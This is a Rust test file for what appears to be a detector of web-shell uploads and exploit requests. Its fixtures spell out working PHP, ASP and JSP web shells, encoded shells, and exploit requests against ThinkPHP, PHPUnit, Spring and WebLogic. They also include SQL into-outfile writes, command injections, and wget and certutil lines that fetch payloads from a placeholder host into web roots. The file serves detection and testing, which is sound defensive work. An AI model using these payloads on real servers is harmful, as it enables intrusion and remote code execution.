//! What is put on servers, and what only looks so.

use super::super::testing::{Sent, form, get, multipart, post, request};
use super::*;

fn found(sent: &Sent<'_>) -> Option<(Sure, String)> {
    let request = sent.request();
    find(&Asked::new(&request), &mut Room::default()).map(|upload| (upload.sure, String::from_utf8_lossy(&upload.name).into_owned()))
}

fn certain(sent: &Sent<'_>, name: &str) {
    assert_eq!(found(sent), Some((Sure::Certain, name.to_string())));
}

fn file<'a>(name: &'a str, kind: &'a str, content: &'a str) -> Sent<'a> {
    multipart("/upload.php", &[("file", Some(name), kind, content.as_bytes())])
}

const SHELL: &str = "<?php @eval($_POST['pass']);?>";

#[test]
fn files_that_the_server_will_run() {
    certain(&file("up.php", "text/plain", SHELL), "up.php");
    certain(&file("a.php.jpg", "image/jpeg", SHELL), "a.php.jpg");
    certain(&file("a.asp;.jpg", "image/jpeg", "<%eval request(\"x\")%>"), "a.asp;.jpg");
    certain(&file("new.php", "image/gif", "GIF89a;\n<?php echo 1;?>"), "new.php");
    certain(&file("x.phtml", "application/octet-stream", "<html><?php if($_POST['c']) echo shell_exec($_POST['c']);?></html>"), "x.phtml");
    certain(&file("n.php", "application/octet-stream", "<?php @$p = $_POST['k']; echo 'lab'; ?>"), "n.php");
    certain(&file(".htaccess", "text/plain", "AddType application/x-httpd-php .png"), ".htaccess");
    certain(&file("..\\..\\x.aspx", "image/png", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"pass\"],\"unsafe\");%>"), "x.aspx");
}

#[test]
fn files_by_other_methods() {
    certain(&request("PUT", "/up/m.jsp", b"<%@ page import=\"java.io.*\" %><% out.println(\"lab\"); %>"), "m.jsp");
    certain(&request("PUT", "/x.jsp/", b"<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>"), "");
    certain(&request("MOVE", "/up/x.txt", b"").with("Destination", "http://h/up/x.asp;.jpg"), "x.asp;.jpg");
    certain(&post("/upload?name=a.php", "application/octet-stream", SHELL.as_bytes()), "a.php");
    certain(&post("/upload", "text/plain", SHELL.as_bytes()).with("X-File-Name", "b.php"), "b.php");
    certain(&form("/save", "filename=c.php&content=%3C%3Fphp+eval(%24_POST%5Bx%5D)%3B%3F%3E"), "c.php");
    certain(&form("/save", "filename=c.php&content=PD9waHAgQGV2YWwoJF9QT1NUWyd4J10pOz8%2B"), "c.php");
    certain(
        &post("/api", "application/json", b"{\"name\":\"d.php\",\"data\":\"data:image/png;base64,PD9waHAgQGV2YWwoJF9QT1NUWyd4J10pOz8+\"}"),
        "d.php",
    );
    certain(&multipart("/up", &[("name", None, "", b"e.php"), ("file", Some("a.jpg"), "image/jpeg", SHELL.as_bytes())]), "e.php");
}

#[test]
fn files_that_exploits_write() {
    certain(
        &get(
            "/index.php?s=index/think/app/invokefunction&function=call_user_func_array&vars[0]=file_put_contents&vars[1][]=f.php&vars[1][]=%3C%3Fphp%20eval(%24_POST[1])%3B",
        ),
        "f.php",
    );
    certain(&get("/cgi-bin/x?a=;echo%20'%3C%3Fphp%20eval(%24_POST[1])%3B%3F%3E'%20%3E%20/var/www/g.php"), "g.php");
    certain(&form("/x", "cmd=echo+PD9waHAgQGV2YWwoJF9QT1NUWyd4J10pOz8%2B|base64+-d>h.php"), "h.php");
    certain(
        &post("/vendor/phpunit/eval-stdin.php", "text/html", b"<?php file_put_contents('i.php', '<?php eval($_POST[1]);'); ?>"),
        "i.php",
    );
    certain(
        &form(
            "/",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
        ),
        ".jsp",
    );
    certain(&post("/wls-wsat/CoordinatorPortType", "text/xml", b"<void class=\"java.io.PrintWriter\"><string>servers/j.jsp</string><string><![CDATA[<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>]]></string></void>"), "j.jsp");
}

#[test]
fn files_in_other_dress() {
    certain(&file("k.php", "text/plain", "PD9waHAgQGV2YWwoJF9QT1NUWyd4J10pOz8+"), "k.php");
    certain(&file("k.php\n", "text/plain", SHELL), "k.php\n");
    let hexadecimal = "-1+union+select+0x3c3f7068702073797374656d28245f4745545b2263225d293b3f3e+into+dumpfile+'/var/www/c.php'";
    certain(&get(&format!("/x.php?id={hexadecimal}")), "c.php");
    certain(&get("/x.php?id=1'+union+select+'%3C%3Fphp+eval(%24_POST%5B1%5D)%3B%3F%3E'+into+outfile+'/var/www/l.php'"), "l.php");
    certain(&post("/soap", "text/xml", b"<upload><filename>m.jsp</filename><data>PCVSdW50aW1lLmdldFJ1bnRpbWUoKS5leGVjKHJlcXVlc3QuZ2V0UGFyYW1ldGVyKCJjIikpOyU+</data></upload>"), "m.jsp");
}

#[test]
fn what_is_handed_out_or_talks_about_code_is_none() {
    for sent in [
        file("photo.png", "image/png", "\u{89}PNG picture"),
        file("question.txt", "text/plain", "How do I use <?php echo $_POST['name']; ?> in a page? And what does eval do?"),
        file("lesson.txt", "text/plain", SHELL),
        file("readme.php.txt", "text/plain", SHELL),
        multipart("/post.php", &[("text", None, "", b"how to write <?php in a blog")]),
        form(
            "/post.php",
            "text=A+webshell+is+a+file+such+as+shell.php+that+holds+%3C%3Fphp+eval(%24_POST%5Bx%5D)%3B+and+is+written+with+file_put_contents+by+whoever+breaks+in",
        ),
        form("/search.php", "q=file_put_contents+shell.php"),
        post("/api/files", "application/json", b"{\"name\":\"photo.jpg\",\"data\":\"/9j/4AAQSkZJRgABAQAAAQABAAD\"}"),
        get("/index.php?page=shell.php&id=3"),
        request("PUT", "/files/a.txt", b"text"),
        request("PUT", "/api/x.php", b"{\"json\":true}"),
    ] {
        assert_eq!(found(&sent), None);
    }
}

#[test]
fn whoever_says_who_they_are_may_bring_scripts() {
    let theme = "<?php get_header(); if (isset($_GET['page'])) { echo esc_html($_GET['page']); } ?>";
    assert_eq!(found(&file("theme.php", "application/octet-stream", theme).with("Cookie", "wordpress_logged_in=1")), None);
    assert_eq!(found(&request("PUT", "/dav/page.jsp", b"<%= new java.util.Date() %>").with("Authorization", "Basic eDp5")), None);
    // But not what runs whatever it is told.
    certain(&file("theme.php", "application/octet-stream", SHELL).with("Cookie", "a=1"), "theme.php");
}

#[test]
fn a_shell_in_a_picture_is_suspect() {
    let sent = file("a.gif", "image/gif", "GIF89a<?php eval($_POST[1]);?>");
    assert_eq!(found(&sent), Some((Sure::Suspect, "a.gif".to_string())));
}

#[test]
fn exploits_that_write_in_other_ways() {
    // A program's own words are no prose.
    let page = "<%@ page import=\"java.util.*,java.io.*\"%><% if (request.getParameter(\"cmd\") != null) { Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); InputStream in = p.getInputStream(); DataInputStream dis = new DataInputStream(in); String disr = dis.readLine(); while ( disr != null ) { out.println(disr); disr = dis.readLine(); } } %>";
    let decoder = |page: &str| {
        format!(
            "<java class=\"java.beans.XMLDecoder\"><object class=\"java.io.PrintWriter\"><string>servers/war/t.jsp</string><void method=\"println\"><string>{page}</string></void></object></java>"
        )
    };
    certain(&post("/wls-wsat/CoordinatorPortType", "text/xml", decoder(&format!("<![CDATA[{page}]]>")).as_bytes()), "t.jsp");
    let escaped = page.replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;");
    certain(&post("/_async/AsyncResponseService", "text/xml", decoder(&escaped).as_bytes()), "t.jsp");
    // A database's log, and rows that are no shell yet.
    certain(
        &form("/phpmyadmin/import.php", "sql_query=SET+GLOBAL+general_log_file%3D'/var/www/html/l.php'").with("Cookie", "a=1"),
        "l.php",
    );
    certain(
        &get(
            "/x.php?id=1'+limit+0,1+into+outfile+'/var/www/s.php'+lines+terminated+by+0x3c3f70687020696620286973736574285b22755d29297b6d6f76655f75706c6f616465645f66696c65283129",
        ),
        "s.php",
    );
    // What is stored comes from elsewhere.
    certain(&get("/x.cgi?a=|wget+http://192.0.2.1/s.txt+-O+/var/www/html/w.php"), "w.php");
    certain(&form("/x.aspx", "c=certutil+-urlcache+-split+-f+http://192.0.2.1/s.txt+C:\\inetpub\\wwwroot\\c.aspx"), "c.aspx");
    certain(
        &post("/eval-stdin.php", "text/plain", b"<?php file_put_contents(\"e.php\",file_get_contents(\"http://192.0.2.1/s.txt\"));"),
        "e.php",
    );
    certain(&form("/user/register", "mail=echo+PD9waHAgQGV2YWwoJF9QT1NUWyd4J10pOz8%2B+|+base64+-d+|+tee+s.php"), "s.php");
    // Declared as parts without any.
    certain(&post("/servlet/R", "multipart/form-data", format!("\u{1}FILE_NAMEt\0\u{7}y.jspt\0\u{10}{page}").as_bytes()), "y.jsp");
}

#[test]
fn archives_that_are_unpacked() {
    let war = archive::tests::zip(
        &[("WEB-INF/web.xml", b"<web-app/>"), ("s.jsp", b"<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>")],
        false,
    );
    certain(&request("PUT", "/manager/text/deploy?path=/s", &war).with("Authorization", "Basic dDp0"), "s.jsp");
    certain(&multipart("/upload", &[("deployWar", Some("s.war"), "application/octet-stream", &war)]), "s.jsp");
    certain(&multipart("/wp-admin/update.php?action=upload-plugin", &[("pluginzip", Some("s.zip"), "application/zip", &war)]), "s.jsp");
    // A file that is only kept.
    assert_eq!(found(&multipart("/files", &[("file", Some("s.zip"), "application/zip", &war)])), None);
}

#[test]
fn commands_and_queries_of_those_who_work_there_are_none() {
    for sent in [
        form("/api/jobs", "script=curl+-sS+https://getcomposer.org/installer+-o+setup.txt"),
        form("/pma/sql.php", "sql_query=select+*+from+t+into+outfile+'/tmp/t.csv'"),
        form("/pma/sql.php", "sql_query=set+global+general_log_file='/var/log/mysql/general.log'"),
        form("/wiki/save.php", "text=To+log+to+l.php+you+would+set+the+variable+general_log_file+of+the+server"),
        form("/search.php", "q=wget+http://example.org/index.php"),
    ] {
        assert_eq!(found(&sent), None);
    }
    let vouched = form("/api/jobs", "script=wget+https://example.org/i+-O+setup.php").with("Cookie", "session=1");
    assert_eq!(found(&vouched).map(|(sure, _)| sure), Some(Sure::Suspect));
}
